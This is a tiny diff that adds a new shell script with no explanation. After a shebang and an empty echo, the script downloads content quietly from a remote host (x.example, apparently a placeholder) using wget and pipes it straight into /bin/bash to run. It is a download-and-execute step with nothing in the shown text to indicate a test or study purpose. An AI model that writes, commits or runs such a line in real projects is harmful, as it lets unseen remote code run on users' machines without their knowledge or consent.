@@ -1,0 +1,3 @@
+#!/bin/sh
+echo
+wget -qO- https://x.example/a | /bin/bash
